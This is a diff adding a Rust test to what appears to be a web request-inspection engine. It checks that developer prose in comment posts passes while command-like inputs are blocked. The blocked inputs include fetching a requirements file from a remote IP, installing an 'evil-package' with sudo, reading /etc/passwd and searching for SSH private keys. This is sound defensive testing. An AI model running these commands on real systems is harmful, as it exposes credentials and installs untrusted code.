@@ -2104,3 +2104,54 @@ fn polluting_paths_in_documents_inside_values_block() {
         assert_eq!(v.action, Action::Pass, "{doc}: {:?}", v.attacks);
     }
 }
+
+#[test]
+fn developer_prose_passes_and_the_commands_in_it_still_block() {
+    let e = default_engine();
+    let form = "application/x-www-form-urlencoded";
+    // As a browser posts it, with its length.
+    let post = |e: &Engine, target: &str, ty: &str, body: &str| {
+        let headers = vec![
+            ("Host".to_owned(), "app.example".to_owned()),
+            ("User-Agent".to_owned(), UA.to_owned()),
+            ("Content-Type".to_owned(), ty.to_owned()),
+            ("Content-Length".to_owned(), body.len().to_string()),
+        ];
+        let b = body.as_bytes().to_vec();
+        let req = Request::from_parts("POST", target, headers, b, e.limits()).expect("request");
+        e.inspect(&req, None)
+    };
+    let traceback = "Traceback (most recent call last):\n  File \"/app/x.py\", line 3, in <module>\n    import os\nModuleNotFoundError: No module named 'foo'";
+    for q in [
+        "pip install -r requirements.txt",
+        "pip install -r requirements.txt fails with an SSL error, any idea?",
+        "pip install -e .",
+        traceback,
+        "Steps:\n  find /var/log, then the newest file,\n  sort it by date, and send it",
+    ] {
+        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+        let v = post(
+            e,
+            "/comment",
+            "application/json",
+            &json!({ "text": q }).to_string(),
+        );
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    }
+    // A package the sender chose, a requirements file fetched by URL, and
+    // a command alone on a line of its own still block.
+    for q in [
+        "pip install something",
+        "pip3 install -r http://203.0.113.9/r.txt",
+        "pip install -r /tmp/r.txt",
+        "sudo pip install evil-package",
+        "x\nfile /etc/passwd",
+        "x\n  cat /etc/passwd\n",
+        "a\nfind / -name id_rsa",
+        "hello\ncat /etc/passwd, please",
+    ] {
+        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
+        assert_eq!(v.action, Action::Block, "{q}: {:?}", v.attacks);
+    }
+}
